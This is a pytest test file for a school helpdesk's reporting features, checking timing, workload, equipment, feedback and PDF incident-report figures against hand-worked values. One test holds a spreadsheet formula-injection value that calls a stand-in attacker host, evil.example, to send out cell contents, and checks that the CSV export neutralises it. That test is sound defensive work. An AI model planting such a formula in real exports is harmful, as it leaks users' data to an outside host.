"""Reports computed on a week with hand-checked answers (see tests/reports_school.py).

Each figure below was worked out by hand from the table in reports_school's docstring.
"""

from __future__ import annotations

import io

import pytest
from pypdf import PdfReader
from reports_school import RANGE, build, csv_sections, headline

TIMING_HEADER = [
    "Calls",
    "Respond median h",
    "Respond 90th pct h",
    "Respond mean h",
    "Responses met",
    "Responses breached",
    "Resolve median h",
    "Resolve 90th pct h",
    "Resolve mean h",
    "Resolutions met",
    "Resolutions breached",
]


@pytest.fixture
def school(app, db, users, clock, make_call):
    return build(app, db, users, clock, make_call)


def _csv(login, client, name, query=RANGE):
    login("leader")
    response = client.get(f"/reports/{name}.csv?{query}")
    assert response.status_code == 200
    return response.get_data(as_text=True)


def _pdf_text(response) -> str:
    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    reader = PdfReader(io.BytesIO(response.data))
    return " ".join(" ".join(page.extract_text().split()) for page in reader.pages)


def test_times_headline_counts_met_and_breached_on_the_working_day_clock(login, client, school):
    figures = headline(_csv(login, client, "times"))
    assert figures == {
        "Calls logged": "6",  # the voided call and the call from the week before are left out
        "Responses within target": "67% (4 of 6)",
        "Resolutions within target": "67% (4 of 6)",
        "Median hours to resolve": "9.00",
        "90th percentile hours to resolve": "22.00",
    }


def test_times_per_category_give_median_nearest_rank_90th_percentile_and_mean(
    login, client, school
):
    table = csv_sections(_csv(login, client, "times"))["By category"]
    assert table == [
        ["Category", *TIMING_HEADER],
        ["Email", "2", "6.00", "6.00", "6.00", "0", "2", "12.00", "12.00", "12.00", "0", "2"],
        [
            "Password reset or locked account",
            "1",
            "0.50",
            "0.50",
            "0.50",
            "1",
            "0",
            "0.50",
            "0.50",
            "0.50",
            "1",
            "0",
        ],
        [
            "Printer or copier",
            "3",
            "2.00",
            "6.00",
            "3.00",
            "3",
            "0",
            "9.00",
            "22.00",
            "11.67",
            "3",
            "0",
        ],
    ]


def test_times_per_type_and_response_level(login, client, school):
    tables = csv_sections(_csv(login, client, "times"))
    assert tables["By type"][1] == [
        "Incident",
        "5",
        "4.00",
        "6.00",
        "3.75",
        "3",
        "2",
        "10.50",
        "22.00",
        "11.75",
        "3",
        "2",
    ]
    assert tables["By response level"][1] == [
        "High",
        "3",
        "3.25",
        "6.00",
        "3.25",
        "1",
        "2",
        "6.25",
        "12.00",
        "6.25",
        "1",
        "2",
    ]


def test_with_customer_time_is_left_out_of_the_resolution_time(login, client, school):
    # C took 31 working hours, 9 of them With Customer: 22 hours, within its 27-hour target.
    printer = csv_sections(_csv(login, client, "times"))["By category"][3]
    assert printer[8] == "22.00" and printer[11] == "0"


def test_breaches_are_listed_including_calls_still_waiting(login, client, school):
    rows = csv_sections(_csv(login, client, "times"))["Service levels breached"][1:]
    assert [(r[2], r[4], r[5], r[6]) for r in rows] == [
        ("Email", "Response", "4.00", "6.00"),
        ("Email", "Resolution", "9.00", "12.00"),
        ("Email", "Response", "4.00", "11.50 (still waiting)"),
        ("Email", "Resolution", "9.00", "11.50 (still waiting)"),
    ]


def test_workload_per_day_counts_logged_resolved_and_open(login, client, school):
    text = _csv(login, client, "workload")
    assert headline(text) == {
        "Calls logged": "6",
        "Calls resolved": "5",
        "Open at the end of the range": "2",
        "Time recorded (hours)": "2.75",
    }
    assert csv_sections(text)["Calls per day"][1:] == [
        ["Mon 16 Nov 2026", "2", "1", "2"],
        ["Tue 17 Nov 2026", "1", "1", "2"],
        ["Wed 18 Nov 2026", "1", "0", "3"],
        ["Thu 19 Nov 2026", "1", "1", "3"],
        ["Fri 20 Nov 2026", "1", "2", "2"],
    ]


def test_workload_by_week_adds_up_the_days(login, client, school):
    text = _csv(login, client, "workload", RANGE + "&by=week")
    assert csv_sections(text)["Calls per week"][1:] == [["Week of 16 Nov 2026", "6", "5", "2"]]


def test_workload_per_group_and_owner(login, client, school):
    tables = csv_sections(_csv(login, client, "workload"))
    assert tables["Per group"][1:] == [
        ["Service Delivery", "3", "3", "1"],
        ["Service Desk", "1", "1", "0"],
        ["Technology Integration", "2", "1", "1"],
    ]
    assert tables["Per owner"][1:] == [
        ["Desk", "1", "1", "1"],  # the desk owns a call it logged until it is passed on
        ["Technician", "3", "3", "0"],
        ["Tina", "2", "1", "1"],
    ]


def test_time_recorded_counts_only_time_worked_in_the_range(login, client, school):
    tables = csv_sections(_csv(login, client, "workload"))
    assert tables["Time recorded per technician and category"][1:] == [
        ["Technician", "Printer or copier", "2.00"],
        ["Tina", "Email", "0.75"],
    ]


def test_filters_narrow_the_report_to_a_group(login, client, school, db):
    group = db.execute(
        "SELECT id FROM support_groups WHERE name = 'Technology Integration'"
    ).fetchone()[0]
    figures = headline(_csv(login, client, "workload", RANGE + f"&group={group}"))
    assert (figures["Calls logged"], figures["Calls resolved"]) == ("2", "1")


def test_filter_by_technician_type_and_site(login, client, school, users):
    tina = users.ids["tina"]
    assert (
        headline(_csv(login, client, "times", RANGE + f"&technician={tina}"))["Calls logged"] == "2"
    )
    assert headline(_csv(login, client, "times", RANGE + "&type=Request"))["Calls logged"] == "1"
    # Only the calls about equipment are at a site: the room the equipment is in.
    assert headline(_csv(login, client, "times", RANGE + "&site=Main site"))["Calls logged"] == "3"


def test_outstanding_lists_open_calls_oldest_first_in_age_buckets(login, client, school):
    text = _csv(login, client, "outstanding")
    tables = csv_sections(text)
    assert headline(text)["Open now"] == "2"
    assert dict(tuple(r) for r in tables["Open calls by age"][1:])["3 to 6 days"] == "1"
    assert dict(tuple(r) for r in tables["Open calls by age"][1:])["1 to 2 weeks"] == "1"
    rows = tables["Open calls, oldest first"][1:]
    assert [(r[3], r[4], r[6]) for r in rows] == [
        ("Old printer call", "Desk", "Logged"),
        ("Email E", "Tina", "Assigned"),
    ]


def test_equipment_counts_calls_per_asset_model_and_term(login, client, school):
    tables = csv_sections(_csv(login, client, "equipment"))
    assert [(r[0], r[5]) for r in tables["Calls per asset, most first"][1:]] == [
        ("PRN-1", "2"),
        ("PRN-2", "1"),
    ]
    assert tables["Calls per make and model"][1:] == [
        ["HP", "M507", "Printer", "3", "2", "3", "1.00"]
    ]
    assert tables["Failure rates: calls per asset per term"][1:] == [
        ["Autumn 2026", "Printer", "3", "3", "1.00"]
    ]


def test_asset_history_shows_every_call_about_the_asset(login, client, school):
    login("leader")
    html = client.get(f"/reports/assets/{school.assets['PRN-1']}").get_data(as_text=True)
    assert "Printer A" in html and "Printer B" in html
    assert "Voided call" not in html and "Printer C" not in html


def test_asset_history_of_a_missing_asset_is_not_found(login, client, school):
    login("leader")
    assert client.get("/reports/assets/999999").status_code == 404


def test_knowledge_counts_solving_articles_and_first_contact_fixes(login, client, school):
    text = _csv(login, client, "knowledge")
    assert headline(text) == {
        "Calls resolved": "5",
        "Resolved at first contact at the desk": "1 (20%)",
        "Solved by a knowledge base article": "3 (60%)",
    }
    assert csv_sections(text)["Articles that solved most calls"][1:] == [
        ["Clearing a paper jam", "published", "2"],
        ["Email stuck in outbox", "published", "1"],
    ]


def test_third_parties_are_judged_against_their_expected_date(login, client, school):
    tables = csv_sections(_csv(login, client, "third-parties"))
    assert tables["Per third party"][1:] == [
        ["Net Co", "vendor", "2", "0", "1", "1", "0", "1.1"],
        ["Site team", "person", "1", "1", "0", "0", "0", "1.1"],
    ]
    assert [r[-1] for r in tables["Referrals"][1:]] == ["late", "overdue", "on time"]


def test_feedback_reads_the_surveys(login, client, school):
    text = _csv(login, client, "feedback")
    assert headline(text) == {
        "Answers": "2",
        "Mean satisfaction": "3.5 out of 5",
        "Say it was fixed": "50%",
        "Say the time was acceptable": "50%",
    }


def test_report_csv_neutralises_a_formula_typed_by_a_customer(login, client, school):
    comments = csv_sections(_csv(login, client, "feedback"))["Comments, latest last"]
    assert comments[1][3] == '\'=HYPERLINK("http://evil.example/?"&A1)'


def test_times_pdf_holds_the_same_figures(login, client, school):
    login("leader")
    text = _pdf_text(client.get(f"/reports/times.pdf?{RANGE}"))
    assert "Time to respond and to resolve" in text
    assert "67% (4 of 6)" in text
    assert "Printer or copier 3 2.00 6.00 3.00 3 0 9.00 22.00 11.67 3 0" in text


def test_monthly_incident_report_pdf_puts_the_main_figures_together(login, client, school):
    login("leader")
    text = _pdf_text(client.get("/reports/governors.pdf?month=2026-11"))
    assert "Incident report: November 2026" in text
    # November holds the week plus call G (13 Nov, still open).
    assert "Calls logged 7" in text
    assert "Calls resolved 5" in text
    # G has waited 54.5 working hours: both its service levels are breached.
    assert "Responses within target 57% (4 of 7)" in text
    assert "Resolved at first contact at the desk 20%" in text
    assert "PRN-1 Printer HP M507 2" in text
    assert "Ann Teacher" not in text  # no caller is named


def test_termly_incident_report_uses_the_school_terms(login, client, school):
    login("leader")
    text = _pdf_text(client.get("/reports/governors.pdf?term=Autumn 2026"))
    assert "Incident report: Autumn 2026" in text
    assert "03 September 2026 to 18 December 2026" in text


def test_unknown_term_or_bad_month_is_refused_with_a_message(login, client, school):
    login("leader")
    response = client.get("/reports/governors.pdf?term=Summer 1999")
    assert response.status_code == 400
    assert "There is no term with that name" in response.get_data(as_text=True)
    response = client.get("/reports/governors.pdf?month=2026-13")
    assert response.status_code == 400
    assert "is not a month" in response.get_data(as_text=True)


def test_a_long_outstanding_list_prints_every_row_in_fixed_columns(
    login, client, school, make_call
):
    from kit.reports.model import FIXED_LAYOUT_ROWS

    for n in range(FIXED_LAYOUT_ROWS):
        make_call(f"Open call number {n}")
    login("leader")
    response = client.get(f"/reports/outstanding.pdf?{RANGE}")
    text = _pdf_text(response)
    assert all(f"Open call number {n}" in text for n in range(FIXED_LAYOUT_ROWS))
    assert text.count("Ref Logged Age Summary Owner Group Status Category") >= 2  # each page
